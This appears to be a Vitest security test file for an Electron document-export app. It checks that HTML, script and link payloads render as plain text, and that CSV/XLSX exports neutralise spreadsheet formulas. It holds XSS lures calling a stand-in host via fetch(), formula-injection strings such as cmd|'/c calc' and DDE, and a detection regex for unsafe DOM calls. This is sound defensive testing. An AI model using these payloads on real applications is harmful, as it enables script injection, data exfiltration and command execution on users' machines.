import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportDocuments } from '../../electron/core/export/export.ts'
import type { ExportDocument } from '../../electron/core/export/records.ts'
import { contentSecurityPolicy } from '../../electron/browser/serve-window.ts'
import { formatsFor } from '../../renderer/messages/formats.ts'
import { labelOf, valueText } from '../../renderer/messages/values.ts'
import { blocksOf } from '../../renderer/screens/ask/message.tsx'
import { hrefOf } from '../../renderer/client/route.ts'
import type { SchemaElement } from '../../shared/domain/schema.ts'
import { locales, sentenceFor } from '../../shared/messages/sentences.ts'
import type { Locale } from '../../shared/messages/sentences.ts'
import { parseCsv, parseLeniently, readXlsx, unzip } from '../unit/export/read-back.ts'

const renderer = fileURLToPath(new URL('../../renderer/', import.meta.url))

/** What a page, a mail or a chat would make pictures, links and programs of. */
export const lures = (address: string): string[] => [
  `<img src="${address}img" onerror="fetch('${address}js')">`,
  `<script>fetch('${address}script')</script>`,
  `<svg/onload=fetch('${address}svg')>`,
  `<iframe src="${address}frame"></iframe><link rel="stylesheet" href="${address}css"><base href="${address}">`,
  `![picture](${address}markdown)`,
  `[link](javascript:fetch('${address}link'))`,
  `<a href="javascript:fetch('${address}a')" ping="${address}ping">pay here</a>`,
  `javascript:fetch('${address}js')`,
  `{{constructor.constructor('fetch("${address}t")')()}}`,
  `\${fetch('${address}template')}`,
  `\u202e<img src=${address}rtl>`,
]

describe('F18 HTML, pictures and links in what others wrote', () => {
  it('stay the same text in values, in the names of fields, in answers and in the reasons of errors', () => {
    for (const text of lures('http://lure.test/')) {
      const words = { yes: 'Yes', no: 'No' }
      expect(valueText(text, formatsFor('de'), words)).toBe(text)
      expect(valueText({ [text]: text }, formatsFor('de'), words)).toBe(JSON.stringify({ [text]: text }))
      expect(blocksOf(`${text}\n`.repeat(500)).join('\n')).toBe(`${text}\n`.repeat(500))
      expect(labelOf(text).toLowerCase()).not.toBe('')
      for (const locale of locales) expect(sentenceFor('extraction_failed', { detail: text }, locale)).toContain(text)
    }
  })

  it('fill a sentence once: a placeholder in what a service said is not filled again', () => {
    expect(sentenceFor('extraction_failed', { detail: '{secret} {detail}', secret: 'X' }, 'en')).toContain(
      '{secret} {detail}',
    )
  })

  it('have no way into the page but as text: nothing in the window writes HTML, runs text or opens an address that it was given', async () => {
    const files = (await readdir(renderer, { recursive: true })).filter((name) => /\.tsx?$/.test(name))
    expect(files.length).toBeGreaterThan(50)
    for (const name of files) {
      const source = await readFile(join(renderer, name), 'utf8')
      expect(source, name).not.toMatch(
        /dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|srcdoc|\beval\(|new Function\(|window\.open\(|location\.(href\s*=[^=]|assign\(|replace\((?!hrefOf))/i,
      )
      // Addresses are the window's own: a screen of it, or the bytes of a document or an export by their number, or
      // fetched from there.
      for (const [, target] of source.matchAll(/\b(?:href|src|formAction|xlinkHref|poster|ping)=\{([^}]*)\}?/g)) {
        expect(target, `${name}: an address that is not the window's own`).toMatch(
          /^((hrefOf|fileUrl|exportUrl)\(|objectUrl$)/,
        )
      }
    }
    expect(contentSecurityPolicy).toContain("default-src 'self'")
    expect(contentSecurityPolicy).not.toMatch(/unsafe|https?:|\*/)
  })

  it('lead nowhere as a part of an address of the window', () => {
    for (const text of lures('http://lure.test/'))
      expect(hrefOf({ screen: 'ask', id: text as unknown as number })).toMatch(/^#\//)
  })
})

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠x',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  '=HYPERLINK("http://lure.test/?"&A1,"pay")',
  '=WEBSERVICE("http://lure.test/")',
  '=IMPORTXML("http://lure.test/","//a")',
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '=DDE("cmd";"/c calc";"1")',
  '"=1+1"',
  "'=1+1",
  '=1;=2,=3\t=4',
  '+49 170 1234567',
]
/** Whatever a spreadsheet may skip before it looks for a formula. */
const startsFormula = /^[\s\p{Cf}\p{Zs}\p{Cc}]*[=+\-@＝＋－＠]/u
const aNumber: Record<Locale, RegExp> = {
  en: /^[+-]?[\d,]+(\.\d+)?$/,
  de: /^[+-]?[\d.]+(,\d+)?$/,
  fr: /^[+-]?[\d\u00a0\u202f]+(,\d+)?$/,
}
const visible = (text: string): string => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '')

const schema: SchemaElement[] = [
  ...formulas.map((name) => ({ name, format: 'text' as const, description: '' })),
  { name: 'amount', format: 'number', description: '' },
  {
    name: '=list|x!A0',
    format: 'list',
    description: '',
    items: [
      { name: '@item', format: 'text', description: '' },
      { name: 'number', format: 'number', description: '' },
    ],
  },
]
const documents: ExportDocument[] = formulas.map((formula) => ({
  fileName: `${formula}.pdf`,
  records: [
    {
      ...Object.fromEntries(formulas.map((name) => [name, formula])),
      amount: -12.5,
      [`${formula} beside`]: formula,
      '=list|x!A0': [{ '@item': formula, number: -0.25 }],
    },
  ],
}))

describe('F19 formulas in values, in the names of fields, of files and of sheets', () => {
  let dir: string
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sheaf-formulas-'))
  })
  afterAll(() => rm(dir, { recursive: true, force: true }))

  for (const locale of locales) {
    it(`are inert in CSV for ${locale}, and true numbers are numbers`, async () => {
      const path = join(dir, `${locale}.csv`)
      const { paths } = await exportDocuments(() => documents, schema, { format: 'csv', locale, lists: 'sheets', path })
      expect(paths.map((one) => basename(one))).toEqual([`${locale}.csv`, `${locale}-=list_x!A0.csv`])
      for (const one of paths) {
        const text = await readFile(one, 'utf8')
        for (const separator of [',', ';', '\t']) {
          for (const cell of parseLeniently(text.slice(1), separator).flat())
            if (startsFormula.test(cell)) expect(cell).toMatch(aNumber[locale])
        }
        const rows = parseCsv(text.slice(1), locale === 'en' ? ',' : ';')
        expect(rows.length).toBe(formulas.length + 1)
        for (const cell of rows.flat()) if (startsFormula.test(cell)) expect(cell).toMatch(aNumber[locale])
      }
      const [header, ...rows] = parseCsv((await readFile(paths[0]!, 'utf8')).slice(1), locale === 'en' ? ',' : ';')
      const at = header!.indexOf('amount')
      for (const row of rows) expect(row[at]).toBe(locale === 'en' ? '-12.50' : '-12,50')
      // What the person reads is the text as it came, behind an apostrophe wherever some program may begin a cell.
      const asItCame = (text: string): string => text.replace(/(?<=^|[;,\t\r\n])'/g, '')
      const values = rows.map((row) => row[header!.indexOf("'=1+1")]!)
      for (const [index, value] of values.entries()) expect(asItCame(value)).toBe(asItCame(visible(formulas[index]!)))
      expect(values[formulas.indexOf('+49 170 1234567')]).toBe("'+49 170 1234567")
    })
  }

  it('are text in XLSX, unchanged, without a formula, a link or anything from elsewhere; numbers are numbers', async () => {
    const path = join(dir, 'book.xlsx')
    await exportDocuments(() => documents, schema, { format: 'xlsx', locale: 'de', lists: 'sheets', path })
    // The reader throws for a formula.
    const [main, list] = await readXlsx(path)
    expect(list!.name).toBe('=list|x!A0')
    const header = main!.values[0]!
    const column = header.indexOf('=1+1')
    for (const [index, row] of main!.cells.slice(1).entries()) {
      expect(row[header.indexOf('amount')]).toMatchObject({ type: 'n', value: '-12.5' })
      expect(row[column]).toMatchObject({ type: 'inlineStr', value: visible(formulas[index]!).replace(/\r\n?/g, '\n') })
    }
    for (const cell of list!.cells.slice(1).map((row) => row.at(-1)))
      expect(cell).toMatchObject({ type: 'n', value: '-0.25' })
    const parts = await unzip(path)
    for (const [name, xml] of parts) {
      expect(name).not.toMatch(/externalLink|vba|macro|connections|\.bin$/i)
      expect(xml, name).not.toMatch(/<(f|hyperlink|ddeLink|oleLink|externalReference)[ >/]|TargetMode="External"/)
    }
  })
})
